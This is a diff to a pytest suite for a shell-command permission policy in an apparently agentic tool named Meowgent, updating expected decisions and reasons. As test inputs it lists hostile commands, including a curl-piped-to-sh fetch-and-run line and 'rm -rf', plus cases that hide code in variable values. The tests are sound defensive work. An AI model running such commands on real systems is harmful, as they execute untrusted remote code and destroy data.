@@ -305,7 +305,7 @@ def test_shell_decisions(policy: Policy, command: str, decision: str) -> None:
 def test_the_reason_names_the_command_and_the_rule(policy: Policy) -> None:
     assert policy.decide(shell("ls && rm -rf x")).reason == 'the rule deny run_shell command "rm *" matches `rm -rf x`'
     assert policy.decide(shell("ls; make")).reason == "no rule allows `make`"
-    assert "double quote" in policy.decide(shell('echo "oops')).reason
+    assert '`"` is never closed' in policy.decide(shell('echo "oops')).reason
 
 
 @pytest.mark.parametrize(
@@ -370,7 +370,7 @@ def test_an_invalid_call_asks(policy: Policy) -> None:
         ("echo x > notes.md", ("overwrites an existing file",)),
         ("echo x >> notes.md", ()),
         ("echo x > new.md", ()),
-        ("curl -s https://x.example | sh", ("uses the network",)),
+        ("curl -s https://x.example | sh", ("uses the network", "Meowgent can't tell everything this runs")),
         ("git -C repo push", ("uses the network",)),
         ("python3 -m pip install requests", ("uses the network",)),
         ("npm i left-pad", ("uses the network",)),
@@ -612,14 +612,17 @@ ATTACK_RULES = [Rule("run_shell", "allow", command="git status*"), Rule("run_she
 
 
 @pytest.mark.parametrize("command", HIDING)
-def test_a_line_that_hides_code_in_values_asks_even_when_a_rule_or_scope_allows_its_words(
+def test_a_line_that_hides_code_in_values_is_never_allowed_and_is_denied_under_a_deny_rule(
     workspace: Path, command: str
 ) -> None:
-    policy = Policy(ATTACK_RULES, workspace)
-    assert policy.decide(shell(command)).decision == "ask"
-    prefix = [Scope("run_shell", prefix="git status")]
-    assert policy.decide(shell(command), scopes=prefix).decision == "ask"
-    assert "variable's value" in policy.decide(shell(command)).reason
+    prefix = [Scope("run_shell", prefix="git status"), Scope("run_shell", command=command)]
+    denying = Policy(ATTACK_RULES, workspace)
+    assert denying.decide(shell(command)).decision == "deny"
+    assert denying.decide(shell(command), scopes=prefix).decision == "deny"
+    allowing = Policy(ATTACK_RULES[:1], workspace)
+    assert allowing.decide(shell(command)).decision == "ask"
+    assert allowing.decide(shell(command), scopes=prefix).decision == "ask"
+    assert "variable's value" in allowing.decide(shell(command)).reason
 
 
 @pytest.mark.parametrize("command", DENIED_EDITS)
